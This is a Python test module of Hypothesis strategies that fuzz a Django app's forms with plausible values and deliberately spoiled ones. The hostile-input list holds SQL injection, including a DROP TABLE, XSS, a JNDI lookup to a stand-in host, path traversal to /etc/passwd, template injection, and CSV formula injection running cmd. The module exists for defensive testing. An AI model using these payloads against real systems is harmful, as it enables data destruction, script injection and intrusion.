"""Hypothesis strategies for what a hostile or careless client sends to a form.

Each example starts from a plausible, valid filling of the form (what the page shows, or
a sensible value for an empty required field) and then spoils some fields: hostile text,
wrong types, far-away or impossible dates, huge numbers, several values for one key,
missing fields, an extra key, a file where text is expected and text where a file is.
"""

import datetime as dt
import io
import re

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st
from PIL import Image

from members.imports.columns import COLUMNS
from tests.factories import PASSWORD
from tests.security.fuzz_discovery import Field

HOSTILE = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\r\n",
    "\t\x0b\x0c",
    "\x1b[31m\x07\x08",
    "\x7f\x85\u2028\u2029",
    "' OR 1=1 --",
    "'; DROP TABLE members_organisation; --",
    '" OR ""="',
    "%' AND 1=0 UNION SELECT NULL --",
    "\\",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "</textarea><b>fett</b>",
    "{{ 7|add:7 }}{% debug %}",
    "%s%s%n%d",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "javascript:alert(1)",
    "https://evil.example/",
    "//evil.example",
    '=HYPERLINK("https://evil.example")',
    "\u202eevil\u202c",
    "\ufeff\u200b\u200d",
    "\ufffd\uffff\U0010ffff",
    "Z\u0351\u0358\u0362a\u0334\u0337l\u0315g\u0321o",
    "𝕳𝖊𝖑𝖑𝖔 😀👩‍👩‍👧",
    "ﷺ" * 20,
    "Straße Ärger Öl",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    "0",
    "-0",
    "-1",
    "1.5",
    "1,5",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "0x10",
    "²",  # str.isdigit() says yes, int() says no
    "1①",
    "١٢٣",  # Arabic-Indic digits: int() reads them
    "9" * 25,
    "-9223372036854775809",
    "9223372036854775808",
    "2147483648",
    "4294967296",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "31.12.2026",
    "32.13.2026",
    "1970-01-01T00:00",
    "9999-12-31T23:59:59",
    "-infinity",
    "24:00",
    "23:61",
    "99:99:99",
    "@example.org",
    "a@b",
    "a" * 64 + "@" + "b" * 250 + ".example",
    "person0@example.org",
    "\x00@example.org",
)

LONG = st.builds(
    lambda piece, times: piece * times,
    st.sampled_from(["a", "ä", "😀", "\x00", "<", "'", " ", "1"]),
    st.sampled_from([101, 256, 1001, 5001, 100_001]),
)
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
NUMBERS = st.one_of(
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.decimals(allow_nan=True).map(str),
)
DATES = st.one_of(
    st.dates().map(dt.date.isoformat),
    st.dates().map(lambda day: day.strftime("%d.%m.%Y")),
    st.datetimes().map(lambda moment: moment.isoformat(timespec="minutes")),
    st.times().map(lambda moment: moment.isoformat(timespec="minutes")),
)
HOSTILE_TEXT = st.one_of(st.sampled_from(HOSTILE), LONG, ANY_TEXT, NUMBERS, DATES)


def _upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


FILES = st.builds(
    _upload,
    st.sampled_from(
        ["logo.png", "liste.csv", "a.svg", "x.exe", ".png", "../../evil.png", "\x00.png", "ä" * 300]
    ),
    st.one_of(
        st.binary(max_size=64),
        st.sampled_from(
            [
                b"",
                b"\x89PNG\r\n\x1a\n" + b"\x00" * 32,
                b"<svg onload=alert(1)></svg>",
                b"Name;Ort\n=cmd|' /C calc'!A0;Bochum\n",
                "Name;Ort\nM\u00fcller GmbH;Bochum\n".encode("cp1252"),
                b"\xff\xfe\x00\x00",
            ]
        ),
    ),
    st.sampled_from(["image/png", "text/csv", "application/octet-stream", "text/html"]),
)


def plausible(field: Field) -> list:
    """What a careful user would send for ``field``: what the page shows, else a sensible
    value. Rows of a repeated group (``sessions-0-title``) stay as shown, mostly empty."""
    shown = [value.strip("\n") for value in field.values]
    if field.kind in ("submit", "hidden") or REPEATED.search(field.name):
        return shown if field.kind != "submit" else shown or field.options[:1]
    if field.kind == "checkbox":
        several = field.required or any(option != "on" for option in field.options)
        return shown or (field.options[:1] if several else [])
    if field.kind in ("radio", "select"):
        filled = [option for option in field.options if option]
        nth = 1 if field.name.startswith("second") and len(filled) > 1 else 0
        return shown if any(shown) else filled[nth : nth + 1] or field.options[:1]
    if field.kind == "file":
        return [valid_upload(field)] if field.required else []
    if any(shown):
        return shown
    return [_empty_or_sensible(field)]


def _empty_or_sensible(field: Field) -> str:
    if field.kind in ("text", "tel"):
        for part, value in BY_NAME.items():
            if part in field.name.lower():
                return value
    if field.kind == "textarea":
        return "Fuzz Text"
    return _sensible(field) if field.required else ""


REPEATED = re.compile(r"[-_]\d+[-_]")
BY_NAME = {"postal": "44787", "amount": "1.000,00", "phone": "+49 234 123456"}


def _sensible(field: Field) -> str:
    later = "end" in field.name or "until" in field.name
    day = dt.date.today() + dt.timedelta(days=31 if later else 30)  # noqa: DTZ011
    by_kind = {
        "email": "fuzz.person@example.org",
        "date": day.isoformat(),
        "datetime-local": f"{day.isoformat()}T10:00",
        "time": "12:00" if later else "10:00",
        "number": str(max(int(field.attrs.get("min") or 0), 3)),
        "url": "https://example.org/",
        "tel": "+49 234 123456",
        "password": PASSWORD,
    }
    return by_kind.get(field.kind, "Fuzz Text")


def valid_upload(field: Field) -> SimpleUploadedFile:
    """A small file of the kind the field asks for: a PNG logo or a member list."""
    if "image" in field.attrs.get("accept", "") or "logo" in field.name:
        picture = io.BytesIO()
        Image.new("RGB", (4, 4), "navy").save(picture, "PNG")
        return _upload("logo.png", picture.getvalue(), "image/png")
    header = ";".join(column.header for column in COLUMNS)
    example = ";".join(column.example for column in COLUMNS)
    return _upload("liste.csv", f"{header}\n{example}\n".encode(), "text/csv")


def hostile(field: Field) -> st.SearchStrategy:
    """One spoiled value list for ``field``."""
    wrong_choice = st.sampled_from([*field.options, "999999999", "-1", "abc"]).map(lambda v: [v])
    single = HOSTILE_TEXT.map(lambda value: [value])
    several = st.lists(
        st.one_of(HOSTILE_TEXT, st.sampled_from(field.options or ["x"])), min_size=2, max_size=4
    )
    strategies = [single, several, wrong_choice]
    if field.kind == "file":
        strategies.append(FILES.map(lambda upload: [upload]))
    else:
        strategies.append(st.builds(lambda: [_upload("text.txt", b"not text")]))
    return st.one_of(strategies)


SPOILED_AT_MOST = 3  # fields spoiled in one example; the others stay valid


@st.composite
def form_values(draw, fields: dict[str, Field]) -> dict[str, list]:
    """A valid filling of the form with up to three fields spoiled, missing or repeated,
    and sometimes a stray key."""
    names = sorted(fields)
    spoiled = set(
        draw(st.lists(st.sampled_from(names), max_size=SPOILED_AT_MOST, unique=True))
        if names
        else []
    )
    values: dict[str, list] = {}
    for name in names:
        field = fields[name]
        fate = draw(st.sampled_from(FATES)) if name in spoiled else "keep"
        if fate == "keep":
            values[name] = plausible(field)
        elif fate == "hostile":
            values[name] = draw(hostile(field))
        elif fate == "twice":
            values[name] = plausible(field) * 2
    if draw(st.integers(0, 3)) == 0:
        values[draw(st.sampled_from(STRAY_KEYS))] = [draw(HOSTILE_TEXT)]
    return values


FATES = ("hostile", "hostile", "hostile", "drop", "twice")
STRAY_KEYS = ("id", "pk", "user", "organisation", "next", "\x00", "ä" * 300)
